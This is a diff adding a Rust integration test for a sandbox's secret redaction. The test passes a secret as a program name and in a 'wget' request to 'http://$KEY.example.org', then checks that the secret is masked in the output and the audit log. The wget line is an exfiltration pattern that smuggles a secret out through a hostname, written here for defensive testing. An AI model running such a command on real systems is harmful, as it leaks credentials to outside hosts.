@@ -286,6 +286,28 @@ fn secret_of_one_command_is_no_variable_of_another() {
 }
 
 #[test]
+fn secret_in_the_name_of_a_program_or_a_host_is_told_by_nothing() {
+    let place = Fixture::new();
+    let provided = Rootfs::busybox().provide();
+    let audit = place.path("audit.jsonl");
+    let mut exec = place.command(["exec", "--json", "--secret", "KEY=env:GIVEN", "--audit"]);
+    exec.arg(&audit).args(["--allow", "other.example.org"]).args(provided.args());
+    let absent = "S3cr3t-Zebra-9f";
+    exec.args(["--", &format!("/bin/{absent}")]).env("GIVEN", absent);
+    let ended = finish(exec);
+    let mut told = format!("{}{}", ended.stdout, ended.stderr);
+    let mut exec = place.command(["exec", "--json", "--secret", "KEY=env:GIVEN", "--audit"]);
+    exec.arg(&audit).args(["--allow", "other.example.org"]).args(provided.args());
+    exec.args(["--", "sh", "-c", "wget -T 5 -q -O - http://$KEY.example.org"]).env("GIVEN", absent);
+    let ended = finish(exec);
+    told += &format!("{}{}", ended.stdout, ended.stderr);
+    told += &std::fs::read_to_string(&audit).unwrap();
+    let shown = told.to_ascii_lowercase();
+    assert!(!shown.contains(&absent.to_ascii_lowercase()), "{told}");
+    assert!(shown.contains("/bin/***") && shown.contains("***.example.org"), "{told}");
+}
+
+#[test]
 fn output_of_one_command_is_redacted_when_another_prints_it() {
     let sandbox = Box::new();
     let wrote = sandbox.shell("printf %s \"$TOKEN\" > file", token());
